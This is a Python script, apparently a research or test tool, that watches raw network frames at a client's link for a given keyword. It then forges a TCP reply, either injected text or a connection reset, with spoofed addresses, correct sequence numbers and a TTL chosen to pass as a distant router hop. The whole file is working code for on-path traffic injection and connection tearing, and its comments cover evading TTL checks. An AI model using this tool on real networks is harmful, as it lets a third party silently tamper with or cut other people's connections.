# SPDX-License-Identifier: GPL-2.0-or-later
"""A third party on the path: answers a line that contains a certain word in its receiver's name.

It listens at the client's end of the cable and is faster than the server, which also receives the line.
"""

import argparse
import socket
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
FRAME_BYTES = 1 << 16

# A time to live of 255 after twelve routers; the server's own segments have 64.
DISTANT_TTL = 243
FOREIGN_ID = 0xbeef

# The server has sent its own answer by the time the client acknowledges the forged one.
PAUSE_SECONDS = 0.1


def make_answer(frame: Ether, text: str) -> Ether:
    """Data, or a RST if there is no text, with exactly the number that the client expects next."""
    line = frame[TCP]
    answer = (Ether(src=frame.dst, dst=frame.src) /
              IP(src=frame[IP].dst, dst=frame[IP].src, ttl=DISTANT_TTL, id=FOREIGN_ID) /
              TCP(sport=line.dport, dport=line.sport, seq=line.ack,
                  ack=line.seq + len(line.payload), window=8192, flags="PA" if text else "RA"))
    return answer / text.encode() if text else answer


def answer_line(interface: str, word: bytes, text: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as end:
        end.bind((interface, ETH_P_ALL))
        while True:
            data, address = end.recvfrom(FRAME_BYTES)
            if address[2] != PACKET_OUTGOING and word in data:
                time.sleep(PAUSE_SECONDS)
                end.send(bytes(make_answer(Ether(data), text)))
                return


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("interface")
    parser.add_argument("word")
    parser.add_argument("--text", default="", help="send TEXT instead of a RST")
    options = parser.parse_args()
    answer_line(options.interface, options.word.encode(), options.text)


if __name__ == "__main__":
    main()
